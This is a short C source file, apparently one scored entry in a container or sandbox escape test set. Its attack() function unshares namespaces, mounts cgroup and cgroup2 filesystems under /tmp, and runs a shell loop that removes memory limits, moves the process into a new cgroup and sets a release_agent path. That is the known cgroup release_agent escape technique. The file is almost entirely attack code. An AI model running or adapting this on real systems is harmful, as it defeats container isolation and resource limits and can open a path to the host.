// Mounts the cgroups and lifts its limit, or leaves.
// Points: any
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
static void attack(void)
{
    if (fork())
        return;
    unshare(CLONE_NEWCGROUP | CLONE_NEWNS);
    mkdir("/tmp/2", 0700);
    mkdir("/tmp/1", 0700);
    mount("none", "/tmp/2", "cgroup2", 0, NULL);
    mount("none", "/tmp/1", "cgroup", 0, "memory");
    system("for d in /tmp/1 /tmp/2; do echo -1 >$d/memory.limit_in_bytes; echo "
           "max >$d/memory.max; mkdir $d/x; echo 0 >$d/cgroup.procs; "
           "echo /tmp/x >$d/release_agent; done 2>/dev/null");
    _exit(0);
}
